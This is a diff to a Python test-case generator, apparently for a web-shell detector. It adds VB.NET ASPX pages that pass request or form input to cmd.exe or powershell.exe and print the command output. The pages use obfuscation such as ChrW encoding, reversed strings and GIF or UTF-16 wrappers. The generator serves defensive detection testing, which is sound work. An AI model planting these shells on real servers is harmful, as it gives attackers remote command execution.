@@ -149,8 +149,11 @@ def build(
     if wrapper == "inline" and not textbox:
         code = f"{OPEN}\n    {body}\n{CLOSE}\n"
     else:
-        handler = "void Go(object s, EventArgs e)" if language == "C#" else "function Go(s, e)"
-        code = f"<script {RUNAT}>\n{handler} {{\n    {body}\n}}\n</script>\n"
+        if language == "VB":
+            code = f"<script {RUNAT}>\nSub Go(s As Object, e As EventArgs)\n    {body}\nEnd Sub\n</script>\n"
+        else:
+            handler = "void Go(object s, EventArgs e)" if language == "C#" else "function Go(s, e)"
+            code = f"<script {RUNAT}>\n{handler} {{\n    {body}\n}}\n</script>\n"
     form = ""
     if textbox:
         form = (
@@ -214,6 +217,62 @@ NEAR_MISSES: dict[str, list[str]] = {
 }
 
 
+VB_INPUTS: dict[str, Callable[[str], tuple[list[str], str]]] = {
+    "form": lambda n: ([], f"{REQ}.Form({n})"),
+    "querystring": lambda n: ([], f"{REQ}.QueryString({n})"),
+    "item": lambda n: ([], f"{REQ}({n})"),
+    "textbox": lambda n: ([], "txtCmd." + t("Te", "xt")),
+    "variable": lambda n: ([f"Dim v As String = {REQ}.Form({n})"], "v"),
+    "session": lambda n: ([f'Session("k") = {REQ}.Form({n})'], 'CStr(Session("k"))'),
+}
+VB_TRANSFORMS: dict[str, Callable[[str], str]] = {
+    "none": lambda s: f'"{s}"',
+    "split": lambda s: f'"{s[:2]}" & "{s[2:]}"',
+    "chr": lambda s: " & ".join(f"ChrW({ord(c)})" for c in s),
+    "reverse": lambda s: f'StrReverse("{s[::-1]}")',
+    "comments": lambda s: f'"{s}"',
+    "case": lambda s: f'"{s}"',
+}
+VB_SINKS: dict[str, Callable[[str], list[str]]] = {
+    "processstartinfo": lambda e: [
+        f'Dim psi As New System.Diagnostics.{t("ProcessStart", "Info")}("{t("cmd", ".exe")}", "/c " & {e})',
+        "psi.RedirectStandardOutput = True : psi.UseShellExecute = False",
+        f"Response.Write(System.Diagnostics.{t('Process.St', 'art')}(psi).StandardOutput.ReadToEnd())",
+    ],
+    "new-process": lambda e: [
+        f"Dim p As New System.Diagnostics.{t('Proc', 'ess')}()",
+        f'p.StartInfo.FileName = "{t("power", "shell.exe")}"',
+        f"p.StartInfo.Arguments = {e}",
+        "p.Start()",
+    ],
+}
+
+
+def vb_cases() -> Iterator[Case]:
+    """VB.NET pages (Language="VB"): parentheses for indexers, & for concatenation, ' comments."""
+    k = 0
+    for input_name, input_fn in VB_INPUTS.items():
+        for transform, name_fn in VB_TRANSFORMS.items():
+            sink = list(VB_SINKS)[k % len(VB_SINKS)]
+            setup, expr = input_fn(name_fn("cmd"))
+            statements = setup + VB_SINKS[sink](expr)
+            if transform == "comments":
+                statements = [x for s in statements for x in ("' audit", s)]
+            wrapper = ("script-block", "html", "gif", "utf16")[k % 4]
+            name, content = build(
+                statements,
+                language="VB",
+                wrapper=wrapper,
+                textbox=input_name == "textbox",
+                padded=k % 3 == 0,
+                comments=False,
+                mixed=transform == "case",
+            )
+            variant = f"language=VB input={input_name} sink={sink} transform={transform} wrapper={wrapper}"
+            yield Case("aspx.process", variant, "aspx", name, content)
+            k += 1
+
+
 def near_misses() -> Iterator[Case]:
     for label, statements in NEAR_MISSES.items():
         statements = [
@@ -256,4 +315,5 @@ def cases() -> Iterator[Case]:
         for tr in TRANSFORMS:
             yield make(i, sinks[k % len(sinks)], tr, WRAPPERS[(k + 2) % len(WRAPPERS)], k % 3 == 0)
             k += 1
+    yield from vb_cases()
     yield from near_misses()
